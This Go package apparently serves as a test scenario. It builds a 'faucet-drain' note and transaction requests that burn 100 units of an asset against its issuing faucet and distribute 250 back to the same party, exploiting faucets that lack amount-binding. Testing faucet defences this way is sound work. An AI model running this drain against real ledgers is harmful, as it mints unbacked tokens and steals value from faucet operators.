// drain.go - The faucet-drain protocol variant.
//
// A self-addressed note whose script burns a previously-minted asset against
// its issuing faucet and distributes a larger amount back to the same party.
// The burn bumps the faucet's nonce, which is what makes a follow-up
// transaction against the faucet account acceptable to the ledger. Whether
// settlement succeeds depends on the faucet's amount-binding policy; faucets
// without it are drainable, and this package exists to exercise exactly
// that.

package drain

import (
	"fmt"

	"noteswap/internal/felt"
	"noteswap/internal/note"
	"noteswap/internal/script"
	"noteswap/internal/transactions/p2id"
	"noteswap/internal/txrequest"
)

// Amount is the distribute amount the drain note requests, deliberately
// larger than the 100 units the scenario burns.
const Amount = 250

// Aux is the auxiliary metadata value carried by the payback recipient.
const Aux = 27

// drainUseCase tags the drain note under a public use-case namespace, not
// under any account.
const drainUseCase = 123

// The serial is fixed so the drain note is reproducible across runs.
var noteSerial = felt.HashFelts(felt.New(1), felt.New(2), felt.New(3), felt.New(4)).Word()

// FaucetDrainNote builds the note that, when consumed by the faucet
// account, burns assetToBurn and distributes Amount back to receiver.
func FaucetDrainNote(receiver note.AccountID, assetToBurn note.FungibleAsset) (*note.Note, error) {
	// Payback recipient: plain p2id to the receiver, zero serial.
	payback, err := p2id.BuildRecipient(receiver, felt.Word{})
	if err != nil {
		return nil, err
	}
	receiverTag := note.TagFromAccountID(receiver, note.ExecutionModeLocal)

	// Burn whatever the note carries, then distribute Amount to the
	// receiver. distribute pops [amount, tag, aux, note_type, hint,
	// RECIPIENT]; push order is the reverse, amount last.
	prog, err := script.Compile([]script.Instruction{
		script.Call(script.ProcGetAssets),
		{Op: script.OpDrop},
		script.MemLoadWord(felt.New(script.AssetsAddr)),
		script.Call(script.ProcBurn),
		script.PushWord(payback.Digest().Word()),
		script.Push(note.HintAlways().Felt()),
		script.Push(note.NoteTypePublic.Felt()),
		script.Push(felt.New(Aux)),
		script.Push(receiverTag.Felt()),
		script.Push(felt.New(Amount)),
		script.Call(script.ProcDistribute),
		{Op: script.OpDrop},
	})
	if err != nil {
		return nil, fmt.Errorf("drain script: %w", err)
	}

	recipient, err := note.NewNoteRecipient(noteSerial, prog, nil)
	if err != nil {
		return nil, err
	}
	assets, err := note.NewNoteAssets(assetToBurn)
	if err != nil {
		return nil, err
	}
	tag, err := note.TagForPublicUseCase(drainUseCase, 0, note.ExecutionModeLocal)
	if err != nil {
		return nil, err
	}
	return note.NewNote(assets, note.NoteMetadata{
		Sender:        receiver,
		NoteType:      note.NoteTypePublic,
		Tag:           tag,
		ExecutionHint: note.HintAlways(),
	}, recipient)
}

// FaucetDrainRequest builds the receiver-side request that locks
// assetToBurn into the drain note.
func FaucetDrainRequest(receiver note.AccountID, assetToBurn note.FungibleAsset) (*txrequest.TransactionRequest, error) {
	n, err := FaucetDrainNote(receiver, assetToBurn)
	if err != nil {
		return nil, fmt.Errorf("drain request: %w", err)
	}
	return txrequest.NewBuilder().WithOwnOutputNotes(n).Build()
}

// SettleScript is the foreign-looking custom transaction script the drain
// settlement runs against the faucet account: push a literal and drop it,
// a no-op beyond forcing script execution.
var SettleScript = script.MustCompile([]script.Instruction{
	script.Push(felt.New(1)),
	{Op: script.OpDrop},
})

// SettleRequest consumes the drain note in the faucet account's context
// with the custom script attached.
func SettleRequest(drainNote *note.Note) (*txrequest.TransactionRequest, error) {
	return txrequest.NewBuilder().
		WithCustomScript(SettleScript).
		WithInputNotes(drainNote.ID()).
		Build()
}
